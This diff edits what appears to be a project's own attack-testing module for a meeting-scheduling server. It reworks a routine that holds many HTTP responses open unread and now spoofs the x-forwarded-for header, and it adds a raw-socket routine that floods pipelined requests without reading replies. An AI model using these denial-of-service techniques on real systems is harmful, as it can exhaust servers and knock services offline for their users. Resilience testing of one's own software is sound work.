@@ -1,7 +1,7 @@
-import type { IncomingMessage } from "node:http";
-import { Agent } from "node:http";
+import { once } from "node:events";
+import { get, type IncomingMessage } from "node:http";
+import { connect } from "node:net";
 import { setTimeout as delay } from "node:timers/promises";
-import { openReply } from "../answered-meeting.ts";
 import { ALL_SLOTS, type Attack, ATTACKER, LARGE_PEOPLE, pace, repeat, sendAttack } from "./stage.ts";
 
 /** Marks in an order that makes normalising quadratic: nearly the 256 kB that a body may have. */
@@ -36,13 +36,14 @@ export const unreadReplies: Attack = async (stage) => {
   const path = `/api/meetings/${stage.meetingID}`;
   const held = new Set<IncomingMessage>();
   let [opening, opened] = [0, 0];
-  const lazy = new Agent({ keepAlive: false });
   async function open(): Promise<void> {
     opening += 1;
     opened += 1;
     try {
-      const headers = { "x-respondent-key": stage.respondentKeys[opened % UNREAD] ?? "" };
-      const response = await openReply(stage.url + path, { ...ATTACKER, agent: lazy, headers });
+      const key = stage.respondentKeys[opened % UNREAD] ?? "";
+      const headers = { "x-respondent-key": key, "x-forwarded-for": ATTACKER.from };
+      const sending = get(stage.url + path, { agent: false, headers }).on("error", () => {});
+      const [response] = (await once(sending, "response")) as [IncomingMessage];
       stage.count(response.statusCode ?? 0);
       response.on("error", () => {});
       if (response.statusCode !== 200) return void response.resume();
@@ -64,6 +65,27 @@ export const unreadReplies: Attack = async (stage) => {
   });
   await Promise.all([saving, opens]);
   // What is held stays held: the process lives on for a while, and the sockets with it.
+};
+
+const PIPELINES = 200;
+const PIPELINED = 1_400;
+/** Until connections whose server does not answer are given up. */
+const GIVEN_UP_MS = 2_000;
+
+/** Whole reads of requests over each connection, whose replies are not read; those without a host Node refuses itself. */
+export const pipelinedRequests: Attack = async (stage) => {
+  const { hostname, port } = new URL(stage.url);
+  const forms = ["Host: x\r\n", "", "Host: x\r\nExpect: x\r\n"].map((headers) =>
+    Buffer.from(`GET /api/meetings/${stage.meetingID} HTTP/1.1\r\n${headers}\r\n`.repeat(PIPELINED)),
+  );
+  await repeat(stage, PIPELINES, async (_worker, turn) => {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER.localAddress });
+    socket.on("connect", () => stage.count("connected")).on("error", () => {});
+    socket.pause().write(forms[turn % forms.length]!);
+    await Promise.race([new Promise((resolve) => socket.on("close", resolve)), delay(GIVEN_UP_MS)]);
+    socket.destroy();
+    await delay(100);
+  });
 };
 
 /** Requests that change nothing and cost the sender nothing, each perhaps a line in a log. */
